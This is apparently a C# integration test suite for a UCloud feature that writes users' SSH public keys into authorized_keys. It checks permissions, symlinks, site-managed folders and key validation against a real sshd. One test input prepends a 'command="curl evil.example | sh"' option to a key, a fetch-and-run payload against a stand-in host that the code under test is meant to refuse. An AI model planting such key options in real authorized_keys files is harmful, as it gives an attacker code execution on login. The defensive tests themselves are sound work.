using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using UcloudIm.Tests.Integration.Support;

namespace UcloudIm.Tests.Integration.Flows;

/// <summary>
/// SSH keys kept in UCloud, installed for the user by their instance (<c>ssh/keyUploaded</c>, both modes): the
/// user's own lines stay as they were, the keys log in through a real sshd, removing a key in UCloud removes it
/// here, and a key that is not a bare public key is refused before anything is written.
/// </summary>
[Collection(StackCollection.Name)]
public sealed class SshKeyTests(Stack stack) : IAsyncLifetime
{
    private readonly string _work = Directory.CreateTempSubdirectory("ucim-ssh-").FullName;

    public ValueTask InitializeAsync() => ValueTask.CompletedTask;

    public ValueTask DisposeAsync()
    {
        Directory.Delete(_work, recursive: true);
        return ValueTask.CompletedTask;
    }

    [Fact]
    public async Task Where_keys_are_not_installed_the_gateway_refuses_them_and_starts_no_instance()
    {
        var user = await stack.CreateUserAsync();
        var (gateway, client) = await stack.StartGatewayAsync("gateway-nokeys",
            c => c.Replace("installKeys: true", "installKeys: false", StringComparison.Ordinal));
        await using (gateway)
        using (client)
        {
            using var request = new HttpRequestMessage(HttpMethod.Post, $"/ucloud/{Stack.ProviderId}/ssh/keyUploaded")
            {
                Content = new StringContent(new JsonObject { ["username"] = user.UcloudName, ["allKeys"] = new JsonArray() }.ToJsonString(), Encoding.UTF8, "application/json"),
            };
            request.Headers.TryAddWithoutValidation("Authorization", "Bearer " + CoreTokens.Service(stack));
            request.Headers.TryAddWithoutValidation("UCloud-Username", Convert.ToBase64String(Encoding.UTF8.GetBytes(user.UcloudName)));
            using var response = await client.SendAsync(request, TestContext.Current.CancellationToken);
            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
            Assert.Contains("does not install SSH keys (services.ssh.installKeys is off)",
                JsonNode.Parse(await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken))!["why"]!.GetValue<string>());
        }
        Assert.Null(await stack.InstanceOf(user));
    }

    [Fact]
    public async Task Keys_added_in_UCloud_log_the_user_in_and_the_users_own_lines_stay()
    {
        var alice = await stack.CreateUserAsync();
        var home = $"/home/{alice.LocalName}";
        // Her own file: a comment and a key of hers, 0644 (sshd accepts it), without a final newline.
        var own = $"# min bærbare\n{await PublicKeyAsync("own", "ed25519")}";
        await Shell.Ok("install", "-d", "-o", alice.LocalName, "-g", alice.LocalName, "-m", "0700", $"{home}/.ssh");
        await File.WriteAllTextAsync($"{home}/.ssh/authorized_keys", own, TestContext.Current.CancellationToken);
        await Shell.Ok("chown", $"{alice.LocalName}:{alice.LocalName}", $"{home}/.ssh/authorized_keys");
        await Shell.Ok("chmod", "0644", $"{home}/.ssh/authorized_keys");

        var laptop = await PublicKeyAsync("laptop", "ed25519");
        var desktop = await PublicKeyAsync("desktop", "rsa");
        var added = await UploadAsync(alice, ("Laptop key", laptop), ("Desktop\tat work", desktop));
        Assert.Equal(200, added.Status);

        var text = await File.ReadAllTextAsync($"{home}/.ssh/authorized_keys", TestContext.Current.CancellationToken);
        Assert.Equal(own + "\n" + $"{Bare(laptop)} Laptop key ucloud-integration\n{Bare(desktop)} Desktop at work ucloud-integration\n", text);
        var stat = UcloudIm.Unix.FileStat.Of($"{home}/.ssh/authorized_keys")!.Value;
        Assert.Equal((alice.Uid, 0x1A4), (stat.Uid, stat.Mode & 0x1FF)); // hers, and still 0644
        // OpenSSH reads the file as three keys, and a real sshd lets her in with the new ones (not with a stranger's).
        Assert.Equal(3, (await Shell.Ok("ssh-keygen", "-l", "-f", $"{home}/.ssh/authorized_keys")).Stdout.Trim().Split('\n').Length);
        await using var sshd = await Sshd.StartAsync();
        Assert.Equal(alice.Uid.ToString(System.Globalization.CultureInfo.InvariantCulture), await sshd.LoginAsync(alice.LocalName, Path.Combine(_work, "laptop")));
        Assert.NotNull(await sshd.LoginAsync(alice.LocalName, Path.Combine(_work, "desktop")));
        await PublicKeyAsync("stranger", "ed25519");
        Assert.Null(await sshd.LoginAsync(alice.LocalName, Path.Combine(_work, "stranger")));

        // She removes the laptop key in UCloud: it no longer logs in; then all of them: her own file is back as it was.
        Assert.Equal(200, (await UploadAsync(alice, ("Desktop at work", desktop))).Status);
        Assert.Null(await sshd.LoginAsync(alice.LocalName, Path.Combine(_work, "laptop")));
        Assert.NotNull(await sshd.LoginAsync(alice.LocalName, Path.Combine(_work, "desktop")));
        Assert.Equal(200, (await UploadAsync(alice)).Status);
        Assert.Equal(own + "\n", await File.ReadAllTextAsync($"{home}/.ssh/authorized_keys", TestContext.Current.CancellationToken));
        Assert.NotNull(await sshd.LoginAsync(alice.LocalName, Path.Combine(_work, "own")));
    }

    [Fact]
    public async Task A_user_without_an_ssh_folder_gets_one_that_sshd_accepts()
    {
        var bob = await stack.CreateUserAsync();
        var key = await PublicKeyAsync("bob", "ecdsa");
        Assert.Equal(200, (await UploadAsync(bob, ("", key))).Status);
        var folder = UcloudIm.Unix.FileStat.Of($"/home/{bob.LocalName}/.ssh")!.Value;
        var file = UcloudIm.Unix.FileStat.Of($"/home/{bob.LocalName}/.ssh/authorized_keys")!.Value;
        Assert.Equal((bob.Uid, 0x1C0, bob.Uid, 0x180), (folder.Uid, folder.Mode & 0x1FF, file.Uid, file.Mode & 0x1FF)); // 0700, 0600
        await using var sshd = await Sshd.StartAsync();
        Assert.NotNull(await sshd.LoginAsync(bob.LocalName, Path.Combine(_work, "bob")));
    }

    [Fact]
    public async Task A_linked_authorized_keys_file_is_changed_where_it_points_and_stays_a_link()
    {
        var dave = await stack.CreateUserAsync();
        var home = $"/home/{dave.LocalName}";
        await Shell.Ok("runuser", "-u", dave.LocalName, "--", "sh", "-c", "mkdir -m 700 ~/.ssh ~/keys && echo '# kept' > ~/keys/mine && ln -s ../keys/mine ~/.ssh/authorized_keys");
        var key = await PublicKeyAsync("dave", "ed25519");
        Assert.Equal(200, (await UploadAsync(dave, ("Work", key))).Status);
        Assert.Equal("../keys/mine", new FileInfo($"{home}/.ssh/authorized_keys").LinkTarget);
        Assert.Equal($"# kept\n{Bare(key)} Work ucloud-integration\n", await File.ReadAllTextAsync($"{home}/keys/mine", TestContext.Current.CancellationToken));
        // Nothing was left beside it: the new text was renamed into place.
        Assert.Equal(["mine"], Directory.GetFiles($"{home}/keys").Select(Path.GetFileName));
    }

    [Fact]
    public async Task Where_the_site_keeps_the_ssh_folder_the_user_is_told_and_nothing_changes()
    {
        var erin = await stack.CreateUserAsync();
        var home = $"/home/{erin.LocalName}";
        // The site's own keys for her, in a folder of root's: she may not change them, so neither may her instance.
        await Shell.Ok("install", "-d", "-o", "root", "-g", "root", "-m", "0755", $"{home}/.ssh");
        await File.WriteAllTextAsync($"{home}/.ssh/authorized_keys", "# managed by the site\n", TestContext.Current.CancellationToken);
        var refused = await UploadAsync(erin, ("Laptop", await PublicKeyAsync("erin", "ed25519")));
        Assert.Equal(403, refused.Status);
        Assert.Contains($"You may not change {home}/.ssh/authorized_keys", refused.Body!["why"]!.ToString());
        Assert.Equal("# managed by the site\n", await File.ReadAllTextAsync($"{home}/.ssh/authorized_keys", TestContext.Current.CancellationToken));
        Assert.Equal(["authorized_keys"], Directory.GetFiles($"{home}/.ssh").Select(Path.GetFileName));
    }

    [Fact]
    public async Task A_key_that_is_not_a_bare_public_key_is_refused_and_nothing_is_written()
    {
        var carol = await stack.CreateUserAsync();
        var good = await PublicKeyAsync("carol", "ed25519");
        var rsa = await PublicKeyAsync("carol-rsa", "rsa");
        var cases = new (string Key, string Problem)[]
        {
            ($"command=\"curl evil.example | sh\" {good}", "options before the key are not accepted"),
            ($"{Bare(good)}\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOQ", "is not one line"),
            ($"ssh-rsa {Bare(good).Split(' ')[1]}", "says it is ssh-rsa, but its key part is not"),
            ("ssh-ed25519 not*base64", "not base64"),
            ("ssh-dss AAAAB3NzaC1kc3MAAACBAP", "not a key type"),
        };
        foreach (var (key, problem) in cases)
        {
            var refused = await UploadAsync(carol, ("Good", rsa), ("Bad", key));
            Assert.Equal(400, refused.Status);
            Assert.Contains(problem, refused.Body!["why"]!.ToString());
        }
        Assert.False(Directory.Exists($"/home/{carol.LocalName}/.ssh"));

        // Her own file holds a byte that is not UTF-8 (a Latin-1 comment): it is left as it was, not "repaired".
        byte[] latin1 = [.. "# b"u8, 0xE6, .. "rbar\n"u8];
        await Shell.Ok("install", "-d", "-o", carol.LocalName, "-g", carol.LocalName, "-m", "0700", $"/home/{carol.LocalName}/.ssh");
        await File.WriteAllBytesAsync($"/home/{carol.LocalName}/.ssh/authorized_keys", latin1, TestContext.Current.CancellationToken);
        await Shell.Ok("chown", $"{carol.LocalName}:{carol.LocalName}", $"/home/{carol.LocalName}/.ssh/authorized_keys");
        var notText = await UploadAsync(carol, ("Good", rsa));
        Assert.Equal(409, notText.Status);
        Assert.Contains("is not UTF-8 text", notText.Body!["why"]!.ToString());
        Assert.Equal(latin1, await File.ReadAllBytesAsync($"/home/{carol.LocalName}/.ssh/authorized_keys", TestContext.Current.CancellationToken));

        // Core names the user the keys are for; keys for someone else never reach this user's file.
        using var request = new HttpRequestMessage(HttpMethod.Post, $"/ucloud/{Stack.ProviderId}/ssh/keyUploaded")
        {
            Content = new StringContent(new JsonObject { ["username"] = "someone-else", ["allKeys"] = new JsonArray() }.ToJsonString(), Encoding.UTF8, "application/json"),
        };
        request.Headers.TryAddWithoutValidation("Authorization", "Bearer " + CoreTokens.Service(stack));
        request.Headers.TryAddWithoutValidation("UCloud-Username", Convert.ToBase64String(Encoding.UTF8.GetBytes(carol.UcloudName)));
        using var response = await stack.Gateway.SendAsync(request, TestContext.Current.CancellationToken);
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("The keys are for 'someone-else'", JsonNode.Parse(await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken))!["why"]!.ToString());
    }

    private Task<SandboxAnswer> UploadAsync(TestUser user, params (string Title, string Key)[] keys) =>
        stack.ActAsync(user, "ssh-keys", new JsonObject
        {
            ["keys"] = new JsonArray(keys.Select(k => (JsonNode)new JsonObject { ["title"] = k.Title, ["key"] = k.Key }).ToArray()),
        });

    /// <summary>A new key pair in the test's folder (private key <paramref name="name"/>); its public key, with a comment.</summary>
    private async Task<string> PublicKeyAsync(string name, string type)
    {
        await Shell.Ok("ssh-keygen", "-q", "-t", type, "-N", "", "-C", name + "@test", "-f", Path.Combine(_work, name));
        return (await File.ReadAllTextAsync(Path.Combine(_work, name + ".pub"), TestContext.Current.CancellationToken)).Trim();
    }

    private static string Bare(string key) => string.Join(' ', key.Split(' ').Take(2));

    /// <summary>A real sshd on a free loopback port, with its own host key and nothing but public-key logins.</summary>
    private sealed class Sshd : IAsyncDisposable
    {
        private readonly string _dir;
        private readonly int _port;

        private Sshd(string dir, int port) => (_dir, _port) = (dir, port);

        public static async Task<Sshd> StartAsync()
        {
            var dir = Directory.CreateTempSubdirectory("sshd-").FullName;
            var port = Stack.FreePort();
            await Shell.Ok("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", Path.Combine(dir, "host"));
            Directory.CreateDirectory("/run/sshd"); // its privilege-separation folder
            await File.WriteAllTextAsync(Path.Combine(dir, "sshd_config"), $"""
                ListenAddress 127.0.0.1
                Port {port}
                HostKey {dir}/host
                PidFile {dir}/sshd.pid
                AuthorizedKeysFile .ssh/authorized_keys
                PasswordAuthentication no
                KbdInteractiveAuthentication no
                UsePAM yes
                """);
            await Shell.Ok("/usr/sbin/sshd", "-f", Path.Combine(dir, "sshd_config"), "-E", Path.Combine(dir, "sshd.log"));
            await Stack.WaitFor("sshd to listen", () => Task.FromResult(File.Exists(Path.Combine(dir, "sshd.pid"))));
            return new Sshd(dir, port);
        }

        /// <summary>`id -u` as the user through sshd with that private key; null when sshd refuses the key.</summary>
        public async Task<string?> LoginAsync(string user, string privateKey)
        {
            var r = await Shell.Run("ssh", "-i", privateKey, "-p", _port.ToString(System.Globalization.CultureInfo.InvariantCulture), "-o", "BatchMode=yes",
                "-o", "IdentitiesOnly=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", $"{user}@127.0.0.1", "id", "-u");
            if (r.Succeeded) return r.Stdout.Trim();
            Assert.Contains("Permission denied", r.Stderr); // refused, not some other failure
            return null;
        }

        public async ValueTask DisposeAsync()
        {
            var pid = await File.ReadAllTextAsync(Path.Combine(_dir, "sshd.pid"));
            await Shell.Run("kill", pid.Trim());
            Directory.Delete(_dir, recursive: true);
        }
    }
}
